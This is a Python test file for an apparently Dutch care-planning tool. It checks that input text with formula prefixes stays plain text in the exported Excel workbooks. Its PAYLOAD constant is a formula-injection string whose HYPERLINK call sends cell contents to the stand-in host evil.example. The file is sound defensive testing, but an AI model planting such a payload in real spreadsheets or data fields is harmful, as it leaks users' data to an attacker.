"""No text from outside ever becomes a formula in a workbook herplan writes.

Every text field of the input (dossier, client, provider, location, address,
begeleider, contact, consultant, planner, remark), a provider's online remark
and the input template's values are written with each of the prefixes a
spreadsheet reads as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage
return); every worksheet of every workbook is then read as XML: no ``<f>``.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import date, datetime

from openpyxl import load_workbook

from herplan.app.stores.answers import Answer
from herplan.io.answer_export import answered_workbook
from herplan.io.input_writer import write_input_workbook
from herplan.io.planning_folder import planning_files
from tests.conftest import case, consultant, location, problem, solve

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://evil.example/?d="&A2,"Bevestig")'


def _formulas(content: bytes) -> list[str]:
    """The worksheets of a workbook that hold a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def _texts(content: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(content))
    return {
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def _poisoned_problem():
    cases, locations, people = [], [], []
    for k, p in enumerate(PREFIXES):
        provider, place = f"{p}Aanbieder{k}", f"{p}Locatie{k}"
        locations.append(
            location(
                place,
                provider=provider,
                address=f"{p}{PAYLOAD}",
                city=f"{p}Stad",
                contact=f"{p}Contact",
            )
        )
        cases.append(
            case(
                f"{p}D{k}",
                place,
                provider=provider,
                client=f"{p}{PAYLOAD}",
                begeleider=f"{p}Begeleider",
                remark=f"{p}{PAYLOAD}",
            )
        )
        # one that cannot be planned: the unplanned sheets carry its texts too
        cases.append(
            case(
                f"{p}U{k}",
                place,
                provider=provider,
                client=f"{p}Onplanbaar",
                indication_end=date(2026, 11, 1),
            )
        )
        people.append(replace(consultant(f"C{k}"), name=f"{p}Consulent"))
    p = problem(cases, consultants=people, locations=locations)
    return replace(
        p, settings=replace(p.settings, planner_name=f"={PAYLOAD}", organizer_name=f"+{PAYLOAD}")
    )


def test_no_text_of_the_input_becomes_a_formula_in_any_workbook():
    plan = solve(_poisoned_problem(), seconds=3)
    workbooks = {n: c for n, c in planning_files(plan).items() if n.endswith(".xlsx")}
    assert len(workbooks) >= 2  # the overview and the providers'
    for name, content in workbooks.items():
        assert _formulas(content) == [], name
    seen = set().union(*map(_texts, workbooks.values()))
    assert any(t.startswith(f"={PAYLOAD}") for t in seen)  # kept as text, not dropped


def test_a_providers_online_remark_stays_text(tmp_path):
    plan = solve(problem([case("D1")]), seconds=2)
    (name,) = [
        n for n in planning_files(plan) if n.startswith("aanbieders/") and n.endswith(".xlsx")
    ]
    path = tmp_path / "yulius.xlsx"
    path.write_bytes(planning_files(plan)[name])
    a = plan.appointments[0]
    for prefix in PREFIXES:
        remark = f"{prefix}{PAYLOAD}"
        answer = Answer(
            "Yulius",
            "D1",
            plan.revision,
            a.day,
            a.start,
            "ja",
            remark,
            datetime(2026, 11, 30, 9),
            "web",
        )
        content = answered_workbook(path, {"D1": answer}, {"D1": a}, "nl")
        assert _formulas(content) == [], repr(prefix)
        # kept as text (XML reads a carriage return as a line feed)
        assert any(t.endswith(PAYLOAD) and t[0] in prefix + "\n" for t in _texts(content))


def test_the_input_template_keeps_given_values_as_text(tmp_path):
    path = tmp_path / "invoer.xlsx"
    rows = {
        "Herindicaties": [
            {"dossier": f"{p}D{k}", "client": f"{p}{PAYLOAD}"} for k, p in enumerate(PREFIXES)
        ]
    }
    write_input_workbook(path, rows, {"planner_naam": f"={PAYLOAD}"})
    content = path.read_bytes()
    assert _formulas(content) == []
    assert f"={PAYLOAD}" in _texts(content)
